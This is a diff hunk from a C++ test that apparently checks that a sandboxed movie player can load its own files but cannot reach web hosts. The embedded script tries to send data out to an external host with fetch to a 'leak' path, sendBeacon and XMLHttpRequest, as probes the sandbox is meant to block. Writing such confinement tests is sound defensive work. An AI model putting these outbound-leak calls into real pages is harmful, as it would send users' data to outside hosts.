@@ -35,7 +35,7 @@ TEST(MovieConfinement, AMovieLoadsItsOwnFilesButReachesNoWebHost) {
   fetch(')" + web + R"(leak?d=1', {mode: 'no-cors'}).catch(function () {});
   navigator.sendBeacon(')" + web + R"(beacon', 'x');
   var x = new XMLHttpRequest(); x.open('GET', ')" + web + R"(xhr'); x.send();
-  fetch('/Database/note.txt').then(function (r) { return r.text(); }).then(function (t) { movie.set('own', t); });
+  movie.readText('/Database/note.txt').then(function (t) { movie.set('own', t); });
 </script></body></html>)");
     MoviePlayer player(e.web, nullptr);
     player.resize(300, 200);
